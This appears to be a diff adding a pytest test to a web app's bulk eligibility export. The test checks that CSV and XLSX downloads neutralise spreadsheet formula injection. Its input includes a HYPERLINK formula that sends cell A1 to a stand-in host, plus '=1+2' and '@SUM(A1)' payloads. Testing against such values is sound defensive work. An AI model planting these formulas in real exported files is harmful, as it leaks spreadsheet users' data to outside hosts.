@@ -17,6 +17,7 @@ from werkzeug.test import encode_multipart
 from accounts.models import User
 from tests import factories
 from tests.conftest import csrf_token
+from tests.spreadsheet_check import csv_rows, live_csv_formulas, live_xlsx_formulas
 
 TODAY = date.today()
 
@@ -505,3 +506,36 @@ def test_urls_and_endpoint_names_of_the_pages(app):
         "eligibility.bulk_xlsx": "/eligibility/bulk/<token>/results.xlsx",
         "eligibility.bulk_template": "/eligibility/bulk/template.csv",
     }
+
+
+FORMULA_NAME = '=HYPERLINK("http://x?d="&A1,"水泥")'
+
+
+def test_downloads_run_no_formula(client, world):
+    content = "\n".join(
+        [
+            "统一社会信用代码,类别,最低星级",
+            '"' + FORMULA_NAME.replace('"', '""') + '",cement,1',  # 2: bad code, echoed
+            f"{world.codes['two_stars']},=1+2,-2+3",  # 3: unknown category, bad stars
+            f"{world.codes['two_stars']},@SUM(A1),-2",  # 4: unknown category, stars below 1
+        ]
+    ).encode()
+    token = token_of(page(upload(client, content)))
+
+    data = client.get(f"/eligibility/bulk/{token}/results.csv").data
+    assert live_csv_formulas(data) == []
+    rows = csv_rows(data)
+    assert [row[1:4] for row in rows[1:]] == [
+        ["'" + FORMULA_NAME, "cement", "1"],
+        [world.codes["two_stars"], "'=1+2", "'-2+3"],
+        [world.codes["two_stars"], "'@SUM(A1)", "-2"],  # a number stays a number
+    ]
+
+    data = client.get(f"/eligibility/bulk/{token}/results.xlsx").data
+    assert live_xlsx_formulas(data) == []
+    sheet = load_workbook(io.BytesIO(data)).active
+    assert [[cell.value for cell in row[1:4]] for row in sheet.iter_rows(min_row=2)] == [
+        [FORMULA_NAME, "cement", "1"],
+        [world.codes["two_stars"], "=1+2", "-2+3"],
+        [world.codes["two_stars"], "@SUM(A1)", "-2"],
+    ]
